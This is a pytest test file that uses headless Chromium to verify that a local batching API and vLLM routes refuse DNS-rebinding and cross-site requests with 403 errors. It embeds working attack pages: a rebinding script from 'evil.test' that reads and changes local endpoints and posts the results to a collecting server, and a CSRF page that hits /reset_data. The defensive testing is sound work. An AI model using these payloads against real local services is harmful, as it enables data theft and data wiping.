"""What pages in a real Chromium can do to a service on the same machine: nothing.

A page of http://evil.test:PORT comes from the server of its author. Then the name is rebound: one of ours answers at
that port of 127.0.0.1, and for the browser the page is of the same origin.
"""

import contextlib
import json
import os
import queue
import shutil
import signal
import subprocess
import threading
import time
from argparse import Namespace
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi import FastAPI

from tests.client import http
from tests.serving import Asked, Reply, ThreadedServer, free_port, threaded_app
from tests.unit.api.support import DEADLINE_S, command, group, registration, wait_until_healthy

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
BROWSER_DEADLINE_S = 90
OPTIONS = """--headless --no-sandbox --disable-gpu --disable-quic --disable-dev-shm-usage --no-first-run --disable-sync
    --disable-background-networking --disable-component-update --disable-extensions""".split()

pytestmark = [
    pytest.mark.services,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium: apt-get install chromium"),
]

READ = ["/status", "/latest_example", "/batch", "/docs", "/health"]
CHANGE = ["/register", "/reset_data", "/v1/bridge/attach", "/generate"]
ATTACKS = [*(["GET", path] for path in READ), *(["POST", path] for path in CHANGE), ["OPTIONS", "/generate"]]

REBINDING = """<!doctype html><script>
const later = () => new Promise(done => setTimeout(done, 200));
const ask = async (method, path) => {
  const body = method == 'POST' ? BODY : undefined;
  const reply = await fetch(path, {method, body, headers: body ? {'Content-Type': 'application/json'} : {}});
  return [method, path, reply.status, (await reply.text()).slice(0, 300)];
};
(async () => {
  for (;;) { try { await ask('GET', '/health'); break } catch { await later() } }
  const seen = [];
  for (const [method, path] of ATTACKS) {
    try { seen.push(await ask(method, path)) } catch (error) { seen.push([method, path, 0, String(error)]) }
  }
  await fetch('REPORT', {method: 'POST', mode: 'no-cors', body: JSON.stringify(seen)});
})();
</script>"""

OUTSIDE = """<!doctype html><a id=link href=TARGET/reset_data>Results</a>
<img src=TARGET/batch><iframe src=TARGET/batch></iframe>
<iframe name=below></iframe><form id=form action=TARGET/reset_data method=post target=below enctype=text/plain></form>
<script>
document.getElementById('form').submit();
fetch('TARGET/reset_data', {method: 'POST', mode: 'no-cors'}).catch(() => 0);
setTimeout(() => document.getElementById('link').click(), 1000);
</script>"""


class Author(ThreadedServer):
    """The server of the page's author on a port of its own; `heard` are the bodies that the page posts to it."""

    def __init__(self, page: str = "") -> None:
        self.asked = threading.Event()
        self.heard: queue.Queue[str] = queue.Queue()

        def answer(asked: Asked) -> Reply | None:
            if asked.method == "POST":
                self.heard.put(asked.body.decode())
                return Reply(body=b"")
            if asked.path != "/":
                return None  # the page asks until the name means another server
            self.asked.set()
            return Reply(body=page.encode(), headers={"Content-Type": "text/html"})

        super().__init__(answer)


def chromium(folder: Path, *arguments: str) -> list[str]:
    resolver = "--host-resolver-rules=MAP *.test 127.0.0.1"
    return [str(CHROMIUM), *OPTIONS, resolver, f"--user-data-dir={folder}", *arguments]


@contextlib.contextmanager
def browsing(folder: Path, url: str) -> Iterator[None]:
    """A browser that has been sent to `url`."""
    browser = subprocess.Popen(
        chromium(folder, url), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    )
    try:
        yield
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()


@contextlib.contextmanager
def batching_api(port: int, *flags: str) -> Iterator[None]:
    """Ours, with a trainer and a group that waits."""
    process = subprocess.Popen(command("--port", str(port), "--in-memory", *flags), stderr=subprocess.PIPE, text=True)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_until_healthy(url, process)
        http.post(f"{url}/register", json=registration(4), timeout=DEADLINE_S)
        http.post(f"{url}/scored_data", json=group(4), timeout=DEADLINE_S)
        yield
        status, info = (http.get(f"{url}/{path}", timeout=DEADLINE_S).json() for path in ("status", "info"))
        assert status["queue_size"] == 1
        assert info["batch_size"] == 4
    finally:
        process.kill()
        process.communicate()


@contextlib.contextmanager
def vllm_routes(port: int) -> Iterator[None]:
    """Our routes of the vLLM server, with no engine behind them: what gets past the guard is a 404 or fails."""
    from vllm_patching.endpoint import BridgeEndpoints

    app = FastAPI()
    app.get("/health")(lambda: "well")
    endpoints = BridgeEndpoints()
    endpoints.attach_router(app)
    endpoints._guard_hosts(Namespace(host="127.0.0.1", allowed_host=[]), [])
    with threaded_app(app, port):
        yield


SERVERS = {"batching API": batching_api, "vLLM": vllm_routes}


def rebound(folder: Path, name: str, server: str) -> list[tuple[str, str, int, str]]:
    """(method, path, status, text) that a page of `name` sees once that name means `server`."""
    with Author() as reports:
        page = REBINDING.replace("ATTACKS", json.dumps(ATTACKS)).replace("REPORT", f"http://127.0.0.1:{reports.port}/")
        author = Author(page.replace("BODY", repr(json.dumps(registration(8)))))
        with browsing(folder, f"http://{name}:{author.port}/"):
            assert author.asked.wait(BROWSER_DEADLINE_S)
            author.close()
            with SERVERS[server](author.port):
                return [tuple(seen) for seen in json.loads(reports.heard.get(timeout=BROWSER_DEADLINE_S))]


@pytest.mark.rotating
@pytest.mark.parametrize("server", SERVERS)
def test_a_page_whose_name_was_rebound_to_this_machine_reads_and_changes_nothing(server: str, tmp_path: Path) -> None:
    seen = rebound(tmp_path, "evil.test", server)
    assert len(seen) == len(ATTACKS)
    for method, path, status, text in seen:
        assert status == 403, (method, path, text)
        assert "evil.test" in text, (method, path, text)
        assert "not a name of this server" in text, (method, path, text)


def test_the_same_page_under_an_own_name_would_have_been_answered(tmp_path: Path) -> None:
    seen = {path: status for method, path, status, _ in rebound(tmp_path, "localhost", "vLLM") if method == "GET"}
    assert seen["/health"] == 200
    assert seen["/status"] == 404


def refusals(url: str) -> int:
    lines = http.get(f"{url}/metrics", timeout=DEADLINE_S).text.splitlines()
    return sum(int(float(line.split()[1])) for line in lines if line.startswith('atropos_refused_total{status="403"}'))


def test_a_page_outside_and_a_link_on_it_change_nothing(tmp_path: Path) -> None:
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    with (
        batching_api(port, "--legacy-gets"),
        Author(OUTSIDE.replace("TARGET", url)) as author,
        browsing(tmp_path, f"http://outside.test:{author.port}/"),
    ):
        end = time.monotonic() + BROWSER_DEADLINE_S
        while refusals(url) < 5:  # an image, two frames, a fetch, and the link
            assert time.monotonic() < end, refusals(url)
            time.sleep(0.2)


@pytest.mark.rotating
@pytest.mark.parametrize(
    ("path", "shown"), [("/reset_data", "no browser may"), ("/batch", "no browser may"), ("/status", "queue_size")]
)
def test_an_address_that_is_opened_in_the_browser_changes_nothing(path: str, shown: str, tmp_path: Path) -> None:
    port = free_port()
    with batching_api(port, "--legacy-gets"):
        opened = chromium(tmp_path, "--dump-dom", f"http://127.0.0.1:{port}{path}")
        page = subprocess.run(opened, capture_output=True, text=True, timeout=BROWSER_DEADLINE_S).stdout
    assert shown in page
